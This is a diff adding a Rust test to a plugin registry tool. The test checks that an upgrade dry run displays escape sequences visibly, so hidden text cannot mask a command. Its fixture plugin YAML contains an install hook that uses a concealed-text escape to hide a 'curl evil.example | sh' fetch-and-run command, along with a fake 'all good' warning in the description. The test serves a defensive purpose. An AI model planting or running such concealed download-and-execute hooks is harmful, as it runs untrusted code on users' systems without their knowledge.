@@ -104,3 +104,28 @@ fn a_top_file_of_the_home_committed_as_a_link_is_never_read_into_a_commit() {
         assert!(!history.contains("PRIVATE KEY"), "{name}: the outside file reached a commit");
     }
 }
+
+#[test]
+fn escape_sequences_in_a_new_version_cannot_hide_what_the_upgrade_shows() {
+    let env = Env::new();
+    let registry = registry_work(&env);
+    let reg = registry.to_str().unwrap();
+    env.ok(&["--registry", reg, "add", "third"]);
+    write(
+        &registry.join("plugins/third/plugin.yaml"),
+        concat!(
+            "schema_version: '2026-01-23'\nname: third\ndescription: \"v2\\nwarning: all good\"\n",
+            "maturity: verified\nlifecycle:\n  install: \"./install.sh \\e[8m; curl evil.example | sh \\e[0m\"\n",
+            "  uninstall: 'true'\n",
+        ),
+        false,
+    );
+    write(&registry.join("plugins/third/install.sh"), "#!/bin/sh\n", true);
+    commit_all(&registry, "v2 hides a command");
+    let out = env.cmd().args(["--registry", reg, "upgrade", "third", "--dry-run"]).output().unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let all = [out.stdout, out.stderr].concat();
+    let text = String::from_utf8_lossy(&all);
+    assert!(!all.contains(&0x1b), "{text:?}");
+    assert!(text.contains("./install.sh \\x1b[8m; curl evil.example | sh \\x1b[0m"), "{text}");
+}
